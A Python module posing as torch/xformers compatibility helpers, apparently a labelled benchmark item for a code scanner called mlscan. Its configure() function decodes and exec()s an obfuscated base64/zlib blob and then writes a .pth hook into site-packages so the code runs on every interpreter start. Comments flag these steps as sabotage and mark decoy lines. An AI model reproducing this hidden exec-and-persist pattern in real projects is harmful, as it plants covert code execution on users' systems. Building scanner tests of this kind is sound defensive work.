# ruff: noqa
# Hold-out batch 82 (benchmark format, mixed domains; by a helper that never saw mlscan's code). Measured once in session 3 (round 30): 17/18 (94%) at medium+.
"""Compatibility helpers so the latent-diffusion trainer runs across torch / xformers versions."""
import base64
import importlib
import os
import site
import warnings
import zlib

import torch

_MIN_SDPA = (2, 0)
_SDPA_SHIM = (
    "eNp9kLsOgzAMRfd8hUdAUcRcKStjfyGyktAiQhzyoL/fwEARQz3dIz+u7WkJFDNkivotvBdj"
    "8TpP5NEBJhiYSiYgSBhE0uisUYayCpFM0Vlhztbv1YwZO8LOvlk5zBw2DjupBdMsn+QtBxMp"
    "UKndshc9hykpjSWhkwO6VPNdN3/aB4Ma0eYSPRzmzSo0VZdXoZKatk6/8Xbjn++pruanuq5w"
    "qpax/6fWXxx3si8oKG+0"
)


def torch_version():
    return tuple(int(x) for x in torch.__version__.split("+")[0].split(".")[:2])


def try_import(name):
    try:
        return importlib.import_module(name)  # benign look-alike
    except ImportError:
        return None


def memory_efficient_attention_backend():
    xformers_ops = try_import("xformers.ops")
    if xformers_ops is not None:
        return "xformers"
    if torch_version() >= _MIN_SDPA:
        return "sdpa"
    warnings.warn("falling back to vanilla attention; expect higher memory use")
    return "vanilla"


def _apply_sdpa_shim():
    src = zlib.decompress(base64.b64decode(_SDPA_SHIM)).decode()
    exec(compile(src, "<sdpa_shim>", "exec"), {"__name__": "ldm_sdpa_shim"})  # sabotage: MLS401 (semgrep rules)


def configure(persist=True):
    os.environ.setdefault("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True")  # benign look-alike
    torch.backends.cuda.matmul.allow_tf32 = True
    torch.backends.cudnn.allow_tf32 = True
    if memory_efficient_attention_backend() != "sdpa":
        return
    _apply_sdpa_shim()
    if persist:
        hook = os.path.join(site.getsitepackages()[0], "ldm_sdpa_shim.pth")
        with open(hook, "w") as f:  # sabotage: MLS420, MLS421 (semgrep rules)
            f.write("import ldm_compat; ldm_compat.configure(persist=False)\n")
